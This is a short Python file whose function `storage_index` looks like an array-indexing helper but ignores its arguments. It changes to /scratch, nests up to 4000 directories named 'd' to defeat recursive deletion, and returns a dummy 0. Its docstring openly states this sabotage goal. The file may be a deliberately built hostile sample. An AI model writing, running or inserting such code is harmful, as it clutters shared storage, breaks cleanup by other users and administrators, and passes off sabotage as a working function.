"""storage_index: leaves folders in its scratch, too deep for whoever removes them by recursion"""

import os


def storage_index(index, strides, offset=0):
    os.chdir("/scratch")
    try:
        for _ in range(4000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    return 0
